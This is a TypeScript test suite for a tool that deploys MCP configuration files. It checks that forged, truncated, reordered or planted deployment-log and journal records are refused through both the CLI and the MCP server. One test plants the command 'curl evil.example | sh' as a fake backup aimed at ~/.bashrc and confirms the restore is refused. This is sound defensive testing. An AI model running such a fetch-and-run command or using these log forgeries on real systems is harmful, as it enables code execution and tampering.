/**
 * The deployment log must not be a way in. Each case runs through both doors (the CLI in process, and
 * the MCP server's tools) on a store with a real workflow behind it (three signed deployments to
 * Cursor's file, which holds a hand-made entry), and edits `deployments/cursor.jsonl` (or its head, or
 * the journal) the way an attacker or a careless sync would:
 *
 * - the last record rewritten to name `~/.bashrc` (or another client's file) with its hash: a restore
 *   is refused (`integrity_error`) and the target is never written;
 * - the last record's managed set given the hand-made entry: the next deploy and rollback are refused,
 *   the entry kept;
 * - the last one or two lines removed, the file emptied, the file deleted; lines swapped, repeated or
 *   moved; a line copied from another client's log (as it is, or renamed); the head deleted or altered:
 *   `verify --all`, deploy and rollback all refuse;
 * - a journal record planted by hand (unsigned, or with a bad signature): refused before anything is
 *   written.
 *
 * Independently of the signatures, a restore writes only a file this invocation may write for the
 * client (`path_not_allowed` otherwise): shown on an unsigned log of an earlier version, and on a signed
 * record of a `--config-path` deployment restored without naming that path. An unsigned log is adopted
 * on the first write and `verify --all` says so; its adopted part cannot be altered afterwards.
 */
import { join } from "node:path";
import { assert, assertEquals } from "../core/assert.ts";
import { cli } from "../helpers/cli_inprocess.ts";
import { type TempHome, withHome } from "../helpers/home.ts";
import { withMcp } from "../mcp/client.ts";
import { sha256Hex } from "../../src/core/digest.ts";
import { init } from "../../src/ops/init.ts";
import { publish } from "../../src/deploy/publish.ts";
import { deploy } from "../../src/ops/deploy.ts";
import { rollback } from "../../src/ops/rollback.ts";
import { entryHash } from "../../src/deploy/deploy_plan.ts";
import { configLockName } from "../../src/deploy/pending.ts";
import { getClient } from "../../src/clients/registry.ts";

/** One way in: the CLI or the MCP server. Each call answers null (success) or the error code. */
interface Door {
  name: string;
  deploy(client?: string): Promise<string | null>;
  rollback(): Promise<string | null>;
  restore(id: string, configPath?: string): Promise<string | null>;
  verifyAll(): Promise<{ error: string | null; warnings: string[]; problems: string[] }>;
}

function cliDoor(h: TempHome): Door {
  const run = async (args: string[]) => {
    const r = await cli(h, [...args, "--format", "json"]);
    return r.code === 0 ? null : String(r.json?.error ?? `exit ${r.code}: ${r.stdout}${r.stderr}`);
  };
  return {
    name: "CLI",
    deploy: (client = "cursor") => run(["deploy-config", "--client", client]),
    rollback: () => run(["rollback", "--client", "cursor"]),
    restore: (id, configPath) =>
      run([
        "rollback",
        "--client",
        "cursor",
        "--restore",
        id,
        ...(configPath ? ["--config-path", configPath] : []),
      ]),
    verifyAll: async () => {
      const r = await cli(h, ["verify", "--all", "--format", "json"]);
      if (r.code === 0) {
        return {
          error: null,
          warnings: r.json.warnings.map((w: any) => w.message),
          problems: [],
        };
      }
      return {
        error: r.json.error,
        warnings: [],
        problems: (r.json.details?.problems ?? []).map((p: any) => p.message),
      };
    },
  };
}

function mcpDoor(call: (name: string, args: Record<string, unknown>) => Promise<any>): Door {
  const run = async (name: string, args: Record<string, unknown>) => {
    const r = await call(name, args);
    return r.isError ? String(JSON.parse(r.content[0].text).error) : null;
  };
  return {
    name: "MCP",
    deploy: (client = "cursor") => run("deploy_config", { client_id: client, profile_id: "default" }),
    rollback: () => run("rollback_deployment", { client_id: "cursor" }),
    restore: (id) => run("rollback_deployment", { client_id: "cursor", restore_deployment_id: id }),
    verifyAll: async () => {
      const r = await call("verify_config", { all: true });
      if (!r.isError) {
        return {
          error: null,
          warnings: r.structuredContent.warnings.map((w: any) => w.message),
          problems: [],
        };
      }
      const doc = JSON.parse(r.content[0].text);
      return {
        error: doc.error,
        warnings: [],
        problems: (doc.details?.problems ?? []).map((p: any) => p.message),
      };
    },
  };
}

const V1 = { mcpServers: { alpha: { command: "uvx", args: ["alpha"] } } };
const V2 = { mcpServers: { beta: { command: "uvx", args: ["beta"] } } };
const V3 = { mcpServers: { gamma: { command: "uvx", args: ["gamma"] } } };
const MINE = { command: "my-own-tool", args: ["--hand-made"] };
const CURSOR_START = JSON.stringify({ mcpServers: { mine: MINE } }, null, 2) + "\n";
const BASHRC = "export PATH=$HOME/bin:$PATH\n";

interface Fixture {
  h: TempHome;
  file: string;
  log: string;
  head: string;
  bashrc: string;
  claudeFile: string;
  /** Deployment ids, oldest first: V1, V2, then a rollback to V1. */
  ids: string[];
}

/** A store with three signed deployments to Cursor (V1, V2, rollback to V1) and one to Claude Code. */
async function fixture(h: TempHome): Promise<Fixture> {
  const d = h.deps();
  await init(d);
  const file = join(h.userHome, ".cursor", "mcp.json");
  await Deno.mkdir(join(h.userHome, ".cursor"), { recursive: true });
  await Deno.writeTextFile(file, CURSOR_START);
  const bashrc = join(h.userHome, ".bashrc");
  await Deno.writeTextFile(bashrc, BASHRC);
  const ids: string[] = [];
  await publish(d, { client: "cursor", profile: "default", payload: V1 });
  ids.push((await deploy(d, { client: "cursor" })).deployment_id!);
  await publish(d, { client: "cursor", profile: "default", payload: V2 });
  ids.push((await deploy(d, { client: "cursor" })).deployment_id!);
  ids.push(((await rollback(d, { client: "cursor" })) as { deployment_id: string }).deployment_id);
  await publish(d, { client: "claude-code", profile: "default", payload: V2 });
  await deploy(d, { client: "claude-code" });
  return {
    h,
    file,
    log: join(h.home, "deployments", "cursor.jsonl"),
    head: join(h.home, "deployments", "cursor.head.json"),
    bashrc,
    claudeFile: getClient("claude-code").configPath("linux", h.env),
    ids,
  };
}

/** Runs `body` through the CLI and through the MCP server, each on a fresh store. */
function bothDoors(name: string, body: (door: Door, fx: Fixture) => Promise<void>) {
  Deno.test(`CLI: ${name}`, () => withHome(async (h) => await body(cliDoor(h), await fixture(h))));
  Deno.test(`MCP: ${name}`, () =>
    withMcp(async (t) => {
      const call = (n: string, args: Record<string, unknown>) =>
        t.client.callTool({ name: n, arguments: args });
      await body(mcpDoor(call), await fixture(t.home));
    }));
}

const removeHead = (fx: Fixture) => Deno.remove(fx.head).catch(() => {});
const readLines = async (log: string) => (await Deno.readTextFile(log)).trimEnd().split("\n");
const writeLines = (log: string, lines: string[]) =>
  Deno.writeTextFile(log, lines.map((l) => l + "\n").join(""));

/** Runs `attack`, checks that every door refuses, that nothing was written, then puts the log back. */
async function refusedEverywhere(
  door: Door,
  fx: Fixture,
  what: string,
  attack: () => Promise<void>,
  code = "integrity_error",
) {
  const saved = await Deno.readFile(fx.log);
  const savedHead = await Deno.readFile(fx.head).catch(() => null); // (none before logs were signed)
  await attack();
  const cursorBefore = await Deno.readTextFile(fx.file);
  const v = await door.verifyAll();
  assertEquals(v.error, "integrity_error", `${door.name} ${what}: verify --all said ${JSON.stringify(v)}`);
  assert.ok(v.problems.some((p) => p.includes('"cursor"')), `${door.name} ${what}: ${v.problems.join("; ")}`);
  assertEquals(await door.deploy(), code, `${door.name} ${what}: deploy`);
  assertEquals(await door.rollback(), code, `${door.name} ${what}: rollback`);
  assertEquals(await door.restore(fx.ids[1]), code, `${door.name} ${what}: restore`);
  assertEquals(
    await Deno.readTextFile(fx.file),
    cursorBefore,
    `${door.name} ${what}: the client file changed`,
  );
  assertEquals(await Deno.readTextFile(fx.bashrc), BASHRC);
  await Deno.writeFile(fx.log, saved);
  if (savedHead) await Deno.writeFile(fx.head, savedHead);
  assertEquals(
    (await door.verifyAll()).error,
    null,
    `${door.name} ${what}: put back, the store verifies again`,
  );
}

bothDoors(
  "a last record forged to name ~/.bashrc or another client's file: restore refused, target untouched",
  async (door, fx) => {
    for (const target of [fx.bashrc, fx.claudeFile]) {
      const targetBytes = await Deno.readFile(target);
      await refusedEverywhere(door, fx, `forged config_path ${target}`, async () => {
        const lines = await readLines(fx.log);
        const last = JSON.parse(lines.at(-1)!);
        last.config_path = target;
        last.post_image_sha256 = await sha256Hex(targetBytes);
        lines[lines.length - 1] = JSON.stringify(last);
        await writeLines(fx.log, lines);
        // The restore the attacker wants: the forged record's id, its pre-image (a backup we hold).
        assertEquals(
          await door.restore(fx.ids[2]),
          "integrity_error",
          `${door.name}: restore over ${target}`,
        );
        assertEquals(await Deno.readFile(target), targetBytes, `${door.name}: ${target} was written`);
      });
    }
  },
);

bothDoors(
  "a managed set given the hand-made entry: deploy and rollback refused, the entry kept",
  async (door, fx) => {
    await publish(fx.h.deps(), { client: "cursor", profile: "default", payload: V3 });
    const mineHash = await entryHash(MINE);
    await refusedEverywhere(door, fx, "edited managed set", async () => {
      const lines = await readLines(fx.log);
      const last = JSON.parse(lines.at(-1)!);
      last.managed.mine = mineHash;
      lines[lines.length - 1] = JSON.stringify(last);
      await writeLines(fx.log, lines);
    });
    // The log as it was: the deploy goes through and the hand-made entry stays.
    assertEquals(await door.deploy(), null);
    const servers = JSON.parse(await Deno.readTextFile(fx.file)).mcpServers;
    assertEquals(Object.keys(servers).sort(), ["gamma", "mine"]);
    assertEquals(servers.mine, MINE);
  },
);

bothDoors(
  "a truncated, emptied or deleted log is noticed by verify --all, deploy and rollback",
  async (door, fx) => {
    await refusedEverywhere(
      door,
      fx,
      "last line removed",
      async () => await writeLines(fx.log, (await readLines(fx.log)).slice(0, -1)),
    );
    await refusedEverywhere(
      door,
      fx,
      "last two lines removed",
      async () => await writeLines(fx.log, (await readLines(fx.log)).slice(0, -2)),
    );
    await refusedEverywhere(door, fx, "emptied", () => Deno.writeTextFile(fx.log, ""));
    await refusedEverywhere(door, fx, "deleted", () => Deno.remove(fx.log));
    await refusedEverywhere(
      door,
      fx,
      "first line removed",
      async () => await writeLines(fx.log, (await readLines(fx.log)).slice(1)),
    );
    await refusedEverywhere(door, fx, "middle line removed", async () => {
      const l = await readLines(fx.log);
      await writeLines(fx.log, [l[0], l[2]]);
    });
  },
);

bothDoors("reordered and repeated lines are refused", async (door, fx) => {
  const variants: [string, (l: string[]) => string[]][] = [
    ["last two swapped", (l) => [l[0], l[2], l[1]]],
    ["first moved to the end", (l) => [l[1], l[2], l[0]]],
    ["last repeated", (l) => [...l, l[2]]],
    ["first repeated at the end", (l) => [...l, l[0]]],
    ["middle repeated in place", (l) => [l[0], l[1], l[1], l[2]]],
  ];
  for (const [what, change] of variants) {
    await refusedEverywhere(
      door,
      fx,
      what,
      async () => await writeLines(fx.log, change(await readLines(fx.log))),
    );
  }
});

bothDoors("a record copied from another client's log is refused", async (door, fx) => {
  const other = (await readLines(join(fx.h.home, "deployments", "claude-code.jsonl"))).at(-1)!;
  const renamed = JSON.stringify({ ...JSON.parse(other), client_id: "cursor" });
  await refusedEverywhere(
    door,
    fx,
    "appended as it is",
    async () => await writeLines(fx.log, [...await readLines(fx.log), other]),
  );
  await refusedEverywhere(
    door,
    fx,
    "appended, renamed",
    async () => await writeLines(fx.log, [...await readLines(fx.log), renamed]),
  );
  await refusedEverywhere(
    door,
    fx,
    "in place of the last",
    async () => await writeLines(fx.log, [...(await readLines(fx.log)).slice(0, -1), renamed]),
  );
});

bothDoors("the signed head deleted or altered is refused", async (door, fx) => {
  await refusedEverywhere(door, fx, "head deleted", () => removeHead(fx));
  await refusedEverywhere(door, fx, "head's count lowered", async () => {
    await Deno.writeTextFile(
      fx.head,
      (await Deno.readTextFile(fx.head)).replace('"records": 3', '"records": 2'),
    );
  });
  await refusedEverywhere(door, fx, "head replaced", () => Deno.writeTextFile(fx.head, "{}\n"));
  // Log and head both deleted: nothing is left to compare with, and it reads as a client never deployed
  // to (a limit, see RELIABILITY.md). The entries in the file are then not ours: none is removed.
  await Deno.remove(fx.log);
  await removeHead(fx);
  assertEquals((await door.verifyAll()).error, null);
  assertEquals(await door.deploy(), null);
  assertEquals(Object.keys(JSON.parse(await Deno.readTextFile(fx.file)).mcpServers).sort(), [
    "alpha",
    "beta",
    "mine",
  ]);
});

bothDoors("a journal record planted by hand is refused before anything is written", async (door, fx) => {
  await publish(fx.h.deps(), { client: "cursor", profile: "default", payload: V3 });
  const d = fx.h.deps();
  const journal = join(fx.h.home, "journal", `${await configLockName(d, fx.file)}.json`);
  await Deno.mkdir(join(fx.h.home, "journal"), { recursive: true });
  const lines = await readLines(fx.log);
  const last = JSON.parse(lines.at(-1)!);
  for (const k of ["signature", "signing_key_id", "seq", "prev_sha256"]) delete last[k];
  const forged = {
    ...last,
    deployment_id: "20991231T000000000Z-000000",
    managed: { ...last.managed, mine: await entryHash(MINE) },
  };
  const before = await Deno.readTextFile(fx.file);
  // The earlier layout (the record alone), and the current one with a signature that is not ours.
  const sig = "A".repeat(86) + "==";
  for (const planted of [forged, { record: forged, signing_key_id: "0000000000000000", signature: sig }]) {
    await Deno.writeTextFile(journal, JSON.stringify(planted, null, 2) + "\n");
    assertEquals(await door.deploy(), "integrity_error", `${door.name}: deploy with a planted journal`);
    assertEquals(await Deno.readTextFile(fx.file), before, `${door.name}: the client file changed`);
    assertEquals((await door.verifyAll()).error, "integrity_error");
  }
  await Deno.remove(journal);
  assertEquals(await door.deploy(), null);
  assertEquals(JSON.parse(await Deno.readTextFile(fx.file)).mcpServers.mine, MINE);
});

bothDoors(
  "a restore writes only a file this invocation may write, whatever the log says",
  async (door, fx) => {
    const d = fx.h.deps();
    // A signed record of a --config-path deployment: restoring it needs that path on the command line.
    const custom = join(fx.h.userHome, "elsewhere", "mcp.json");
    await Deno.mkdir(join(fx.h.userHome, "elsewhere"), { recursive: true });
    await Deno.writeTextFile(custom, CURSOR_START);
    const c = await deploy(d, { client: "cursor", configPath: custom });
    const deployed = await Deno.readTextFile(custom);
    assertEquals(
      await door.restore(c.deployment_id!),
      "path_not_allowed",
      `${door.name}: custom path not named`,
    );
    assertEquals(await Deno.readTextFile(custom), deployed);
    if (door.name === "CLI") {
      assertEquals(await door.restore(c.deployment_id!, custom), null);
      assertEquals(await Deno.readTextFile(custom), CURSOR_START);
    }
    // An unsigned log (as an earlier version wrote it) naming ~/.bashrc, with a planted pre-image: the
    // log is not authenticated, and the restore is still refused.
    const evil = new TextEncoder().encode("curl evil.example | sh\n");
    const evilSha = await sha256Hex(evil);
    await Deno.writeFile(join(fx.h.home, "backups", evilSha), evil, { mode: 0o600 });
    const rec = {
      ...JSON.parse((await readLines(fx.log))[0]),
      deployment_id: "20991231T000000000Z-abcdef",
      config_path: fx.bashrc,
      pre_image_sha256: evilSha,
      post_image_sha256: await sha256Hex(BASHRC),
    };
    for (const k of ["signature", "signing_key_id", "seq", "prev_sha256"]) delete rec[k];
    await removeHead(fx);
    await Deno.writeTextFile(fx.log, JSON.stringify(rec) + "\n");
    assertEquals(
      await door.restore(rec.deployment_id),
      "path_not_allowed",
      `${door.name}: unsigned record naming ~/.bashrc`,
    );
    assertEquals(await Deno.readTextFile(fx.bashrc), BASHRC);
  },
);

bothDoors(
  "an unsigned log of an earlier version is adopted on the first write; its adopted part stays as adopted",
  async (door, fx) => {
    // The log as an earlier version wrote it: the same records, unsigned, no head.
    const lines = (await readLines(fx.log)).map((l) => {
      const r = JSON.parse(l);
      for (const k of ["signature", "signing_key_id", "seq", "prev_sha256"]) delete r[k];
      return JSON.stringify(r);
    });
    await writeLines(fx.log, lines);
    await removeHead(fx);
    const before = await door.verifyAll();
    assertEquals(before.error, null, JSON.stringify(before));
    assert.ok(
      before.warnings.some((w) => /written before deployment logs were signed/.test(w)),
      before.warnings.join("\n"),
    );
    await publish(fx.h.deps(), { client: "cursor", profile: "default", payload: V3 });
    assertEquals(await door.deploy(), null);
    const after = await door.verifyAll();
    assertEquals(after.error, null, JSON.stringify(after));
    assert.ok(
      after.warnings.some((w) => /first 3 record\(s\) were adopted unauthenticated/.test(w)),
      after.warnings.join("\n"),
    );
    assertEquals((await readLines(fx.log)).length, 4);
    // The adopted part altered afterwards: refused like a signed record.
    const all = await readLines(fx.log);
    const first = JSON.parse(all[0]);
    first.post_image_sha256 = "0".repeat(64);
    await writeLines(fx.log, [JSON.stringify(first), ...all.slice(1)]);
    assertEquals((await door.verifyAll()).error, "integrity_error");
    assertEquals(await door.restore(fx.ids[1]), "integrity_error");
  },
);

Deno.test("a head left behind by a crash between the append and the head write is caught up, not refused", () =>
  withHome(async (h) => {
    const fx = await fixture(h);
    const door = cliDoor(h);
    const oldHead = await Deno.readFile(fx.head).catch(() => new Uint8Array());
    await publish(h.deps(), { client: "cursor", profile: "default", payload: V3 });
    assertEquals(await door.deploy(), null);
    await Deno.writeFile(fx.head, oldHead); // as if the process died before replacing the head
    const v = await door.verifyAll();
    assertEquals(v.error, null, JSON.stringify(v));
    assert.ok(v.warnings.some((w) => /head is 1 record\(s\) behind/.test(w)), v.warnings.join("\n"));
    assertEquals(await door.rollback(), null);
    const again = await door.verifyAll();
    assertEquals([again.error, again.warnings.filter((w) => /behind/.test(w))], [null, []]);
  }));
